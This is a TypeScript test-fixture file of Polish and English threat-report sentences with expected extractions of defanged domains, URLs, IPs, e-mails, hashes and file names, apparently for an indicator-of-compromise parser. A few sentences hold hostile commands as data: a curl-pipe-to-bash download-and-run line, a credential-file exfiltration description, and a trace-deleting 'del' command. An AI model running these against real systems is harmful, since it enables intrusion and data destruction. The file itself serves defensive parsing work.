/**
 * Sentences from reports, alerts and e-mails in Polish and English, with the values in them: certain ones, and doubtful
 * ones that need a warning. Names and addresses are reserved ones.
 */
export interface Sentence {
  readonly text: string
  /** As `type value`. */
  readonly sure: readonly string[]
  /** As `type value reason`. */
  readonly doubtful: readonly string[]
  /** As written in the sentence. */
  readonly refused: readonly string[]
}

/** Text around a value. */
const frames = [
  'Victims were led to {}.',
  'It answers at {}, as of today.',
  'The panel ({}) is still up.',
  'We call it “{}”, for now.',
  "They registered '{}'; nobody noticed.",
  'Have you seen {}?',
  'Do not open {}!',
  'Found: {}: the second stage.',
  'Also known ["{}"].',
  '- {} – command and control',
  '| {} | C2 | high |',
  'Everything went to **{}**.',
  'dst={};action=allow',
  'C2:{}',
  '> {} was quoted in the first message',
  '3) {}, then nothing more',
  'Ofiary trafiały na {}.',
  'Serwer („{}”), znany od maja, odpowiada.',
  'Czy ktoś widział {}?',
  'Zablokujcie {}; to panel.',
  'Strona «{}» udaje bank!',
  'Chodzi m.in. o {}, np. w poczcie.',
  'Połączenia do {} — do odcięcia.',
  '• Adres dowodzenia: {};',
  'Atakujący użył (jak sądzimy) {}...Potem zniknął.',
] as const

const md5 = '0123456789abcdef0123456789abcdef'
const sha1 = '0123456789abcdef0123456789abcdef01234567'
const sha256 = '0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef'

/** Ways to defang a value, or to leave it as it is. */
const written: readonly (readonly [text: string, value: string])[] = [
  ['amber-ferret[.]example', 'domain amber-ferret.example'],
  ['c2.amber-ferret(.)example', 'domain c2.amber-ferret.example'],
  ['www[dot]amber-ferret[dot]example', 'domain www.amber-ferret.example'],
  ['żółw{.}example', 'domain żółw.example'],
  ['panel [kropka] amber-ferret [.] example', 'domain panel.amber-ferret.example'],
  ['amber_ferret[.example', 'domain amber_ferret.example'],
  ['cdn\\.amber-ferret\\.example', 'domain cdn.amber-ferret.example'],
  ['mail.amber-ferret.example', 'domain mail.amber-ferret.example'],
  ['hxxp://amber-ferret[.]example/Gate_(1).php', 'url http://amber-ferret.example/Gate_(1).php'],
  ['hXXps[://]amber-ferret[.]example:8443/?id=1&x=%20', 'url https://amber-ferret.example:8443/?id=1&x=%20'],
  ['h**p[:]//198[.]51[.]100[.]7/a', 'url http://198.51.100.7/a'],
  ['fxp://files.amber-ferret[.]example', 'url ftp://files.amber-ferret.example'],
  ['amber-ferret[.]example/login/', 'url amber-ferret.example/login/'],
  ['198.51.100[.]7', 'ipv4 198.51.100.7'],
  ['198[.]51[.]100[.]7:8080', 'ipv4 198.51.100.7'],
  ['203.0.113.0/24', 'ipv4_cidr 203.0.113.0/24'],
  ['2001[:]db8::7', 'ipv6 2001:db8::7'],
  ['billing[@]amber-ferret[.]example', 'email billing@amber-ferret.example'],
  ['faktury [at] amber-ferret [dot] example', 'email faktury@amber-ferret.example'],
  ['biuro(małpa)amber-ferret(kropka)example', 'email biuro@amber-ferret.example'],
  ['billing@amber-ferret.example', 'email billing@amber-ferret.example'],
  [md5, `md5 ${md5}`],
  [sha1, `sha1 ${sha1}`],
  [sha256, `sha256 ${sha256}`],
]

const framed = frames.flatMap((frame, at) =>
  written
    // Each frame with every second notation, so that neighbours differ.
    .filter((_, index) => (at + index) % 2 === 0)
    .map(([text, value]): Sentence => ({
      text: frame.replace('{}', text),
      sure: [value],
      doubtful: [],
      refused: [],
    })),
)

const one = (
  text: string,
  sure: readonly string[] = [],
  doubtful: readonly string[] = [],
  refused: readonly string[] = [],
): Sentence => ({ text, sure, doubtful, refused })

export const sentences: readonly Sentence[] = [
  ...framed,

  // Several values in one sentence.
  one('From a.example, b.example and 192.0.2.1 to c.example.', [
    'domain a.example',
    'domain b.example',
    'ipv4 192.0.2.1',
    'domain c.example',
  ]),
  one('Adresy: a[.]example oraz b[.]example (192.0.2.1, 192.0.2.2).', [
    'domain a.example',
    'domain b.example',
    'ipv4 192.0.2.1',
    'ipv4 192.0.2.2',
  ]),
  one('evil.example/192.0.2.7 answers on 192.0.2.9:443/tcp only.', [
    'domain evil.example',
    'ipv4 192.0.2.7',
    'ipv4 192.0.2.9',
  ]),
  one('hxxp://a[.]example/x|hxxp://b[.]example/y are the same page.', [
    'url http://a.example/x',
    'url http://b.example/y',
  ]),
  one(`MD5:${md5},SHA1=${sha1} (SHA-256: ${sha256}).`, [`md5 ${md5}`, `sha1 ${sha1}`, `sha256 ${sha256}`]),
  one('evil.example→192.0.2.1→[2001:db8::1]:443', [
    'domain evil.example',
    'ipv4 192.0.2.1',
    'ipv6 2001:db8::1',
  ]),
  one('The operator of evil.example’s panel hid behind _proxy.example_.', [
    'domain evil.example',
    'domain proxy.example',
  ]),
  one('Wysyłka z "ACME" <billing@amber-ferret.example>, a potem z <faktury[at]amber-ferret[.]example>.', [
    'email billing@amber-ferret.example',
    'email faktury@amber-ferret.example',
  ]),
  one('They logged in as root@192.0.2.44 twice.', ['ipv4 192.0.2.44']),
  one('Reported as IPv6: 2001:db8::5. IPv4: 192.0.2.5.', ['ipv6 2001:db8::5', 'ipv4 192.0.2.5']),

  // File names and paths.
  one("The attachment 'Invoice 1.PDF.exe' was opened.", ['filename Invoice 1.PDF.exe']),
  one('Załącznik „Faktura 12.pdf.exe” trafił do kosza.', ['filename Faktura 12.pdf.exe']),
  one('It drops C:\\ProgramData\\upd.dll, then stops.', ['filename C:\\ProgramData\\upd.dll']),
  one('Plik %APPDATA%\\Roaming Data\\run.vbs jest uruchamiany.', [
    'filename %APPDATA%\\Roaming Data\\run.vbs',
  ]),
  one('The miner in /tmp/.x/miner starts at night.', ['filename /tmp/.x/miner']),
  one('The loader `{7032F494-0562-4422-9C39-14230E095C52}.dll` is signed.', [
    'filename {7032F494-0562-4422-9C39-14230E095C52}.dll',
  ]),
  one('Then offer.pdf.exe asks for a password.', ['filename offer.pdf.exe']),
  one(
    'The victim opened the file invoice.exe',
    [],
    ['filename invoice.exe file', 'filename The victim opened the file invoice.exe spaces'],
  ),
  one(
    'It runs powershell.exe and rundll32.exe as usual.',
    [],
    ['filename powershell.exe file', 'filename rundll32.exe file'],
  ),
  one('Szczegóły opisuje plik readme.txt w archiwum.', [], ['filename readme.txt file']),
  one(
    'The script reads /etc/passwd and posts it to /gate.php.',
    [],
    ['filename /etc/passwd file', 'filename /gate.php file'],
  ),
  one(
    'Open setup.py or payload.zip with care, please.',
    [],
    ['filename setup.py name_or_file', 'filename payload.zip name_or_file'],
  ),
  one('Cmd /c del /q removes the traces of it.'),
  one('It writes HKCU\\Software\\Run\\updater for its start.', [], [], ['HKCU\\Software\\Run\\updater']),

  // Citations and authors.
  one(
    'See https://blog.example.com/2026/post for the details.',
    [],
    ['url https://blog.example.com/2026/post link'],
  ),
  one(
    'Więcej: https://cert.example.org/komunikat (dostęp 1.11.2026).',
    [],
    ['url https://cert.example.org/komunikat link'],
  ),
  one(
    '[Amber Ferret](https://groups.example.org/G0001) has used mail.',
    [],
    ['url https://groups.example.org/G0001 link'],
  ),
  one(
    'Users were then sent to https://amber-ferret.example/login).',
    [],
    ['url https://amber-ferret.example/login link'],
  ),
  one('The lure (https://amber-ferret.example/login).', ['url https://amber-ferret.example/login']),
  one(
    'Vendor example.com says that evil[.]example is gone since Monday.',
    ['domain evil.example'],
    ['domain example.com not_defanged'],
  ),
  one('On evil[.]example the mail of evil.example was read by them.', [
    'domain evil.example',
    'domain evil.example',
  ]),
  one(
    'Zgłoszenia prosimy kierować na cert@firma.example lub telefonicznie.',
    [],
    ['email cert@firma.example link'],
  ),
  one('Contact us at soc-team@vendor.example for samples.', [], ['email soc-team@vendor.example link']),
  one('Thanks to @ferret@social.example for the sample.', [], ['email ferret@social.example link']),
  one('From: "Accounts" <accounts@firma.example>', [], ['email accounts@firma.example signature']),
  one(
    'Do: jan.kowalski@firma.example; DW: anna.nowak@firma.example',
    [],
    ['email jan.kowalski@firma.example signature', 'email anna.nowak@firma.example signature'],
  ),
  one(
    'Blokujemy evil[.]example.\nPozdrawiam,\nJan Kowalski\nFirma Sp. z o.o.\njan.kowalski@firma.example\nwww.firma.example\ntel. 22.123.45.67',
    ['domain evil.example'],
    [
      'email jan.kowalski@firma.example signature',
      'domain www.firma.example signature',
      'ipv4 22.123.45.67 number',
    ],
  ),
  one(
    'Pozdrawiam,\nJan Kowalski\n\nKroki opisuje rozdział 3.1.2.4 instrukcji.\n10.2.4.1 Zakres działania systemu',
    [],
    ['ipv4 3.1.2.4 number', 'ipv4 10.2.4.1 number'],
  ),
  one(
    'Please block hxxps://evil[.]example/a.\n\nKind regards\nAnna Smith | ACME Ltd. | anna@acme.example | https://acme.example/',
    ['url https://evil.example/a'],
    ['email anna@acme.example signature', 'url https://acme.example/ signature'],
  ),
  one(
    'Nothing else.\n-- \nSOC, https://soc.example\n\nOn Monday, Jan wrote:\n> the host is late.example',
    ['domain late.example'],
    ['url https://soc.example signature'],
  ),
  one(
    'Z poważaniem, Jan Kowalski, j.kowalski@firma.example',
    [],
    ['email j.kowalski@firma.example signature'],
  ),
  one(
    'It was seen in May.\nReferences:\n[1] https://blog.example.com/a\nhttps://blog.example.org/b\nIndicators\nevil.example',
    ['domain evil.example'],
    ['url https://blog.example.com/a link', 'url https://blog.example.org/b link'],
  ),

  // Numbers and words that look like values.
  one('Update to version 1.2.3.4 or later.', [], ['ipv4 1.2.3.4 number']),
  one('Podatna jest wersja 12.4.1.100 i starsze.', [], ['ipv4 12.4.1.100 number']),
  one('Chrome 120.0.6099.109 and OID 1.3.6.1.4.1.311 are fine.'),
  one(
    'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64) Chrome/120.0.0.0 Safari/537.36',
    [],
    ['ipv4 120.0.0.0 number'],
  ),
  one('Kod strony odwołuje się do cdn.example.org/npm/jquery.min.js', [
    'url cdn.example.org/npm/jquery.min.js',
  ]),
  one('hxxp:// evil[.]example/a leads to bad[.]example[.]', [
    'url http://evil.example/a',
    'domain bad.example',
  ]),
  one('curl -s http://192.0.2.55/a.sh | bash', ['url http://192.0.2.55/a.sh']),
  one('{"url":"http://red-fox.test/x","ip":"192.0.2.44"}', ['url http://red-fox.test/x', 'ipv4 192.0.2.44']),
  one('Resolvers such as 8.8.8.8 answer for them all.', [], ['ipv4 8.8.8.8 number']),
  one('Zadzwoń pod tel. 22.123.45.67 w godz. 8.00–16.00.', [], ['ipv4 22.123.45.67 number']),
  one('On 12.03.2026 at 12:30:45 (T1059.001, CVE-2026-1234) it began.'),
  one('Np. firma z o.o., S.A., m.in. bank itd., tj. wszyscy.'),
  one('They use Node.js, e.g. with ASP.NET, i.e. what everybody has.', [], ['filename Node.js file']),
  one('The attack ended.The next one began.'),
  one('Atak dotyczy adres.To nie koniec sprawy.', [], ['domain adres.To run_together']),
  one('Detected as Trojan.Win32.Agent, in System.Net.WebClient too.'),
  one(
    'The package com.example.stealer asks for everything.',
    [],
    ['domain com.example.stealer unknown_ending'],
  ),
  one('Its MAC is 00:11:22:33:44:55 and the call is std::string::find.'),
  one('In total 1.234.567 records, 24/7, and/or TCP/IP, n/a.'),
  one('Użytkownik FIRMA\\jan.kowalski zgłosił sprawę.'),
  one('Fixed in commit 0123456789abcdef0123456789abcdef01234567 upstream.', [], [`sha1 ${sha1} number`]),

  // Uncertain, truncated, or wildcard values.
  one('Everything under *.evil[.]example is theirs.', [], [], ['*.evil[.]example']),
  one(
    'Domeny .evil.example i .bad.example są ich.',
    [],
    ['domain evil.example attached', 'domain bad.example attached'],
  ),
  one('The evil.example-based kit is sold for little.', [], ['domain evil.example attached']),
  one('The page is hxxp://evil[.]example/very-', [], ['url http://evil.example/very- cut']),
  one('It went to evil.example… and then stopped.', ['domain evil.example']),
  one('The list ends in http://evil.example/abc...', [], [], ['http://evil.example/abc...']),
  one('Write someone at evil dot example, they say.', [], ['email someone@evil.example spelled_out']),
  one('Adres to evil kropka example, jak mówią.', [], ['domain evil.example spelled_out']),
  one('The range 192.0.2.1-192.0.2.9 is theirs.', [], [], ['192.0.2.1-192.0.2.9']),
  one('The address 192.0.2.256 does not exist.', [], [], ['192.0.2.256']),
  one(`A digest of ${'a'.repeat(41)} is none.`, [], [], ['a'.repeat(41)]),
]
